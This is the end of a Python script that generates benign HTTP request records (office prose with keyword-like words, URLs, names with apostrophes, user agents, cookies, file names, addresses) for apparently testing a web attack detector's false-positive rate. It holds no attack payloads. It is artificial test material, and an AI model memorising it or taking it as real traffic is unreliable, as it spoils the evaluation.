    "Expense limit raised to 500 EUR per month for the sales team.",
    "Frame agreement covers hardware, software and support.",
    "Angular migration of the customer portal is 80% done.",
    "The alert threshold for disk usage is 85 percent.",
    "Escalated to level 2 support after the third call.",
    "The expect clause in the contract covers delivery delays over 14 days.",
    "Filter the report by region, then export it as CSV for the board.",
    "Input from the works council is expected by the end of the week.",
    "Glob-al rollout of the new laptops starts in EMEA, then APAC.",
    "The zip code for the new office is 10115, Berlin-Mitte.",
    "Her thesis on phar-maceutical supply chains is attached.",
    "Data retention: delete inactive accounts after 24 months.",
    "Shell scripts from the old server were archived to cold storage.",
    "The exec team offsite moved to October.",
    "The constructor of the new building promised handover in May.",
    "Template contracts for freelancers are in the legal folder.",
    "Evaluation of the three vendors is complete; the report is attached.",
    "Alerting rules for the payment service were reviewed with on-call.",
    "Please embed the video on the intranet page, not the public site.",
    "The object of the complaint was the late delivery, not the price.",
    "Cookies were served at the all-hands; thanks to the office team.",
    "The document template now includes the company's new address.",
    "Top-up of the travel card was approved.",
    "Window display for the Lisbon store changes next Monday.",
    "Import duties for the Swiss shipment were paid by the customer.",
    "Meta-data of the uploaded photos is stripped automatically.",
    "The base of the new monitor arm is missing a screw.",
    "Link the new hire's account to the Finance cost centre.",
    "Style sheet for the printed catalogue is final.",
    "Frame numbers for the bike lease are in the spreadsheet.",
    "The parent account owns three sub-accounts in different regions.",
    "Self-evaluation forms are due on the 15th.",
    "The script of the training video mentions the old logo; re-record that part.",
    "System downtime last night lasted 12 minutes.",
    "Scheduled a call for 10:30 to confirm the quote.",
]

DOC_URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onload",
    "https://angular.io/guide/security",
    "https://docs.angularjs.org/guide/expression",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://github.com/acme/portal/blob/main/src/templates/base.html",
    "https://github.com/acme/legacy-cms/blob/master/index.php",
    "https://example.com/uploads/avatars/42.png",
    "https://cdn.example.org/js/app.bundle.js?v=5.14.2",
    "https://www.example.co.uk/careers?team=engineering&location=london",
    "https://blog.example.com/2024/03/12/php-8-3-upgrade-notes",
    "https://stackoverflow.com/questions/1234567/how-to-use-window-onload",
    "https://www.w3.org/TR/html52/document-metadata.html#the-meta-element",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://calendar.example.com/event?id=8841&view=week",
    "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
    "https://maps.example.com/?q=Alexanderplatz+1,+Berlin",
    "https://status.example.com/incidents/2024-06-01",
]

PEOPLE = [
    ("Siobhán O'Neil", "siobhan.oneil@example.ie", "Senior PHP Developer", "Engineering", "Dublin",
     "Builds the billing APIs in PHP and Go. Speaker at PHPDay."),
    ("José Álvarez", "jose.alvarez@example.es", "Frontend Engineer", "Engineering", "Madrid",
     "JavaScript and Angular, accessibility nerd, runs the #frontend channel."),
    ("Chloé Dubois", "chloe.dubois@example.fr", "Document Controller", "Operations", "Lyon",
     "Keeps the ISO documentation in order; loves cookies and long walks."),
    ("Nguyễn Văn An", "an.nguyen@example.vn", "System Administrator", "IT", "Hanoi",
     "Linux, backups, and the occasional shell script."),
    ("Mary-Jane Watson", "mj.watson@example.com", "Script Supervisor", "Media", "New York",
     "Continuity on set, scripts and schedules."),
    ("Søren Kjær", "soren.kjaer@example.dk", "Embedded Systems Engineer", "Hardware", "Aarhus",
     "Firmware in C, test rigs, and a soldering iron."),
    ("D'Angelo Russell", "dangelo.russell@example.com", "Account Executive", "Sales", "Los Angeles",
     "Top performer 2023; alert to new opportunities."),
    ("Priya Raghunathan", "priya.r@example.in", "Data Analyst", "Finance", "Bengaluru",
     "SQL, Python and dashboards. Evaluates vendors for the BI stack."),
    ("Łukasz Nowak", "lukasz.nowak@example.pl", "Prompt Engineer", "AI", "Kraków",
     "Writes prompts and evaluation suites for the support assistant."),
    ("Ömer Çelik", "omer.celik@example.com.tr", "Window Installer", "Facilities", "Izmir",
     "Windows, frames and glass; safety first."),
    ("Björn Lindqvist", "bjorn.lindqvist@example.se", "Object Storage Lead", "Platform", "Stockholm",
     "Runs the S3-compatible object store and its lifecycle rules."),
    ("Ana García-López", "ana.garcia@example.mx", "Template Designer", "Marketing", "Guadalajara",
     "Email templates, landing pages, and style guides."),
    ("Kwame Mensah", "kwame.mensah@example.gh", "Parent Portal Product Owner", "Education", "Accra",
     "The parent portal for schools; previously a teacher."),
    ("Yuki Tanaka", "yuki.tanaka@example.jp", "Link Building Specialist", "SEO", "Osaka",
     "Outreach, backlinks and meta descriptions."),
    ("Fatima Zahra El Amrani", "fatima.elamrani@example.ma", "Executive Assistant", "Office", "Casablanca",
     "Calendars, travel and the base of operations for the exec team."),
    ("Hans-Peter Müller", "hp.mueller@example.de", "Applet Maintainer (retired)", "Archive", "Stuttgart",
     "Maintained the Java applet timesheets until 2015; now gardens."),
    ("Aisha Bello", "aisha.bello@example.ng", "Security Analyst", "Security", "Lagos",
     "Runs XSS and PHP security training; OSCP."),
    ("Liam O'Connor", "liam.oconnor@example.ie", "Event Manager", "Marketing", "Cork",
     "Marquee events, conferences and the yearly offsite."),
    ("Mei Chen", "mei.chen@example.tw", "VB Developer", "Finance IT", "Taipei",
     "Excel VBA and VBScript automation for the finance team."),
    ("Rafael Souza", "rafael.souza@example.br", "Cookie Policy Owner", "Legal", "São Paulo",
     "GDPR, consent banners and privacy notices."),
]

BENIGN_UAS = BROWSER_UAS + [
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "curl/8.7.1",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "axios/1.7.2",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "AcmeMobile/5.14.2 (iPhone; iOS 17.5; Scale/3.00)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
]

BENIGN_REFERERS = [
    "https://app.example.com/admin/users?page=2",
    "https://www.google.com/",
    "https://www.bing.com/search?q=acme+portal+login",
    "https://duckduckgo.com/?q=php+developer+jobs+berlin",
    "https://app.example.com/people?q=O%27Brien",
    "https://mail.example.com/",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://t.co/abc123XYZ",
    "https://www.linkedin.com/feed/",
    "https://app.example.com/docs/javascript-sdk#window-onload",
    "https://app.example.com/settings/cookies",
    "https://github.com/acme/portal/pull/812",
    "https://acme.slack.com/archives/C0123456789/p1719000000000100",
    "https://app.example.com/search?q=script+supervisor",
    "https://app.example.com/admin/templates/welcome-email/edit",
]

BENIGN_COOKIES = [
    "cookie_consent={\"necessary\":true,\"analytics\":false}",
    "theme=dark",
    "lang=de-DE",
    "_ga=GA1.2.1234567890.1719000000",
    "last_search=php%20developer",
    "recent=42%2C77%2C108",
    "prefs=compact%3Dtrue%26tz%3DEurope%2FBerlin",
    "tz=America%2FNew_York",
    "sidebar=collapsed",
    "last_search=O%27Brien",
    "ab_test=variant-b",
    "prefs=%7B%22density%22%3A%22comfortable%22%7D",
]

UPLOAD_NAMES = [
    ("avatar.png", "image/png"), ("Résumé 2024.pdf", "application/pdf"), ("invoice_0042.pdf", "application/pdf"),
    ("team photo (1).jpg", "image/jpeg"), ("notes.txt", "text/plain"), ("export.csv", "text/csv"),
    ("logo.svg", "image/svg+xml"), ("php-cheatsheet.pdf", "application/pdf"),
    ("IMG_20240612_101500.heic", "image/heic"),
    ("Q3 report - final (v2).xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("contract_signed.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("screenshot 2024-06-01 at 10.15.22.png", "image/png"), ("deploy-script-notes.md", "text/markdown"),
    ("headshot.webp", "image/webp"), ("passport_scan.jpg", "image/jpeg"),
]

ADDRESSES = [
    "Alexanderplatz 1, 10178 Berlin, Germany",
    "221B Baker Street, London NW1 6XE, United Kingdom",
    "1600 Amphitheatre Parkway, Mountain View, CA 94043",
    "Rue de Rivoli 99, 75001 Paris",
    "Calle de Alcalá 42, 28014 Madrid",
    "Piazza del Duomo 1, 20122 Milano MI",
    "Nørregade 10, 1165 København K",
    "ul. Marszałkowska 84/92, 00-514 Warszawa",
    "Shibuya 2-21-1, Shibuya-ku, Tokyo 150-8510",
    "Apt. #4, 12 O'Connell St, Dublin 1",
    "P.O. Box 1234, Windhoek, Namibia",
    "Script House, 3 Document Lane, Leeds LS1 4AP",
    "Unit 7 (rear entrance), 55 Parent Road, Auckland",
    "Top floor, Window Tower, 8 Frame St, Singapore 018956",
    "c/o Müller & Söhne GmbH, Königstraße 5, 70173 Stuttgart",
    "Av. Paulista, 1578 - Bela Vista, São Paulo - SP, 01310-200",
    "Building 3, Base Camp Business Park, Cape Town 8001",
    "Suite 500, 100 Applet Ave, Toronto ON M5V 2T6",
    "Flat 2/1, 14 Cookie Lane, Glasgow G12 8QQ",
    "Level 12, 1 Object Plaza, Sydney NSW 2000",
    "Emaar Square, Building 4, Dubai, UAE",
    "Strada Eval 7, Cluj-Napoca 400000, Romania",
    "Linkstraße 2, 10785 Berlin",
    "Meta Road 9, Reykjavík 101",
    "Embed House, 1 Export Quay, Rotterdam 3011",
]

PATH_SLUGS = [
    "42", "1007", "jose.alvarez", "siobhan-oneil", "O'Brien", "chloé.dubois", "me", "42/projects",
    "42/avatar", "search", "php-developers", "team-script", "window-cleaning", "document-control",
    "mary-jane.watson", "a1b2c3d4-e5f6-4789-a012-3456789abcde", "42/notifications", "export.csv",
]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(7809)
    n = 0

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for text in DEV_CHAT:
        yield rec("slack", "json", slack_message(slack_escape(text), n + 1))
        yield rec("bio", "json", b.real("json", text, "plain") | {
            "method": "POST", "uri": "/api/users",
            "body": json.dumps({"name": "Ann Lee", "email": "ann.lee@example.com", "bio": text}, ensure_ascii=False)})
    for term in SEARCHES:
        yield rec("search", "query", b.real("query", term, "plain"))
        yield rec("search", "form", b.real("form", term, "plain"))
        yield rec("rs-search", "rs-query", b.rs("rs-query", term, "plain"))
    for text in PROSE:
        yield rec("prose", "form", b.real("form", text, "plain"))
        yield rec("note", "json", b.real("json", text, "plain"))
        yield rec("rs-prose", "rs-form", b.rs("rs-form", text, "plain"))
    for link in DOC_URLS:
        doc = {"name": "Ann Lee", "website": link, "bio": f"Notes: {link}"}
        yield rec("url", "json", {**b.real("json", "x", "plain"), "method": "POST", "uri": "/api/users",
                                  "body": json.dumps(doc)})
        yield rec("url", "query", b.real("query", link, "plain"))
        yield rec("url", "header:Referer", b.real("header:Referer", link, "plain"))
    for name, email, title, dept, city, bio in PEOPLE:
        doc = {"name": name, "email": email, "title": title, "department": dept, "location": city, "bio": bio}
        yield rec("profile", "json", {**b.real("json", "x", "plain"), "method": "POST", "uri": "/api/users",
                                      "body": json.dumps(doc, ensure_ascii=False)})
        yield rec("profile", "json", {**b.real("json", "x", "plain"), "method": "PATCH", "uri": "/api/users/42",
                                      "body": json.dumps({"title": title, "bio": bio}, ensure_ascii=False)})
        xml_doc = ('<?xml version="1.0" encoding="UTF-8"?>\n<user>'
                   f"<name>{html.escape(name, quote=False)}</name><title>{html.escape(title, quote=False)}</title>"
                   f"<bio>{html.escape(bio, quote=False)}</bio></user>")
        yield rec("profile-xml", "xml", {**b.real("xml", "x", "plain"), "body": xml_doc})
        yield rec("display-name", "form", b.real("form", name, "plain"))
    for ua in BENIGN_UAS:
        yield rec("ua", "header:User-Agent", b.real("header:User-Agent", ua, "plain"))
        yield rec("rs-ua", "rs-ua", b.rs("rs-ua", ua, "plain"))
    for ref in BENIGN_REFERERS:
        yield rec("referer", "header:Referer", b.real("header:Referer", ref, "plain"))
        yield rec("rs-referer", "rs-referer", b.rs("rs-referer", ref, "plain"))
    for cookie in BENIGN_COOKIES:
        req = b.real("query", "ann", "plain")
        req["headers"]["Cookie"] += "; " + cookie
        yield rec("cookie", "cookie", req)
    for fname, ctype in UPLOAD_NAMES:
        body, mp = b.multipart([("csrf_token", b.token()), ("display_name", "Ann Lee")], "avatar", fname, ctype,
                               "placeholder file content")
        yield rec("upload", "multipart-filename", {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                                                   "headers": {**b.browser("application/json"),
                                                               "Content-Type": mp}})
        yield rec("upload", "header:X-File-Name", b.real("header:X-File-Name", fname.encode("ascii", "ignore")
                                                         .decode(), "plain"))
    for address in ADDRESSES:
        yield rec("address", "json", {**b.real("json", "x", "plain"), "method": "PATCH", "uri": "/api/users/42",
                                      "body": json.dumps({"address": address, "country_code": "XX"},
                                                         ensure_ascii=False)})
        yield rec("address", "form", b.real("form", address, "plain"))
        yield rec("rs-address", "rs-json", b.rs("rs-json", address, "plain"))
    for slug in PATH_SLUGS:
        seg = "/".join(urllib.parse.quote(part, safe="") for part in slug.split("/"))
        yield rec("path", "path", {**b.real("query", "x", "plain"), "uri": f"/api/users/{seg}"})


if __name__ == "__main__":
    print_records(attacks(), benign())
